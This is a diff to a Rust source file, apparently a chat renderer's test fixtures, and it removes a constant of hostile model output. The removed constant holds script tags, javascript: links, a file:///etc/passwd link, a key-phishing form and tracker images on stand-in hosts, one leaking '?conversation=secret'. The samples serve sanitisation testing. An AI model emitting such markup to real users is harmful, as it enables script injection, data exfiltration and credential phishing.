@@ -38,38 +38,6 @@ fn leaves(millilitres: u32) -> f64 {
 More at [the tea society](https://example.org/tea?brew=black).
 "#;
 
-/// What a hostile model might say. A message view may show it; it must not run, load, open or hide any of it.
-pub const HOSTILE: &str = r#"Before. <script>window.__hostile = "script"</script>
-
-<img src="https://tracker.example/pixel.png" onerror="window.__hostile = 'onerror'">
-
-![a remote image](https://tracker.example/leak.png?conversation=secret)
-
-[a script](javascript:window.__hostile='link') [data](data:text/html,<script>window.__hostile='data'</script>)
-[a file](file:///etc/passwd) [another program](brasskey://settings?delete=all) [a neat name](https://evil.example/https://platform.openai.com)
-
-<https://example.org/autolink> [reference][1]
-
-[1]: javascript:window.__hostile='reference' "title"
-
-<iframe src="https://tracker.example/frame"></iframe>
-<style>body { display: none }</style>
-<form action="https://tracker.example/form"><input name="key"><button>Enter your key again</button></form>
-<a href="https://evil.example" target="_top" onclick="window.__hostile='click'">plain HTML link</a>
-
-$\href{javascript:window.__hostile='maths'}{x}$ and $\includegraphics{https://tracker.example/maths.png}$
-
-```html
-<script>window.__hostile = "code"</script>
-```
-
-| a | b |
-| --- | --- |
-| <script>window.__hostile = "table"</script> | ![x](https://tracker.example/table.png) |
-
-After.
-"#;
-
 /// Reasoning for `/thinking`.
 pub(crate) const THINKING: &str = "The question is about tea. I compare the three kinds by the temperature of the \
 water, then by time, and check the formula at t = 0, where it must give nothing. It does.";
